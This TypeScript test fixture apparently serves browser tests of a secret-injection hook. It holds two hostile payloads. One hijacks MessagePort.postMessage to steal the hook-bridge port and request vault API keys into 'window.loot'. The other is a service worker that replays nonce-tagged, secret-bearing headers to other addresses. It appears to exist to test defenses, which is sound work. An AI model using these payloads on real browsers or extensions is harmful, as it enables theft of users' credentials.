/** What a page that means harm can do in its own world: it steals the port between hook and bridge. */

export interface Reply {
  readonly kind: string;
  readonly nonce?: string;
  readonly message?: string;
}

/** In the page as `window.heist`; what it gets hold of goes to `window.loot` too. */
export interface Heist {
  readonly port: MessagePort;
  /** Asks the bridge as the hook would; gives its last word, or its first when that is to wait. */
  ask(hold: {
    url: string;
    method?: string;
    headers?: [string, string][];
    elsewhere?: string[];
  }): Promise<Reply>;
  /** The text of an address, asked for with the placeholder in a header; the error's when there is none. */
  grab(address: string): Promise<string>;
}

/** For `page.evaluate`; resolves when the port is stolen. */
export const HOSTILE_SCRIPT = `(async () => {
  window.loot = [];
  const { postMessage } = MessagePort.prototype;
  const port = await new Promise((resolve) => {
    MessagePort.prototype.postMessage = function (...args) {
      resolve(this);
      return Reflect.apply(postMessage, this, args);
    };
    const signal = AbortSignal.timeout(1);
    fetch('/nothing', { headers: { 'X-A': '{{vault:NOT_THERE}}' }, signal }).catch(() => undefined);
  });
  MessagePort.prototype.postMessage = postMessage;
  let last = 1000;
  window.heist = {
    port,
    ask: (hold) => new Promise((resolve) => {
      const id = ++last;
      port.addEventListener('message', ({ data }) => {
        window.loot.push(data);
        if (data.id === id && data.kind !== 'seen') resolve(data);
      });
      port.postMessage({
        kind: 'hold', id, method: 'GET', headers: [['X-Api-Key', '{{vault:API_KEY}}']], elsewhere: [],
        silent: false, ...hold,
      });
    }),
    grab: async (address) => {
      try {
        const answer = await fetch(address, { headers: { 'X-Api-Key': '{{vault:API_KEY}}' } });
        const text = await answer.text();
        window.loot.push([...answer.headers], text);
        return text;
      } catch (error) {
        return String(error);
      }
    },
  };
})()`;

/** A service worker that tries each nonce it sees elsewhere before and after it lets the request go on. */
export const HOSTILE_WORKER = `
  addEventListener('install', () => skipWaiting());
  addEventListener('activate', (event) => event.waitUntil(clients.claim()));
  const targets = JSON.parse(new URL(location.href).searchParams.get('to'));
  addEventListener('fetch', (event) => {
    const { url, headers } = event.request;
    const [nonce] = /#kf-.*/.exec(url) ?? [];
    if (!nonce) return;
    const grab = (to) => fetch(to, { headers: [...headers] }).then((answer) => answer.text(), String);
    event.respondWith((async () => {
      const texts = await Promise.all([...targets.map((to) => grab(to + nonce)), grab(url)]);
      texts.push(await grab(url), await grab(url));
      return new Response(JSON.stringify(texts));
    })());
  });
`;
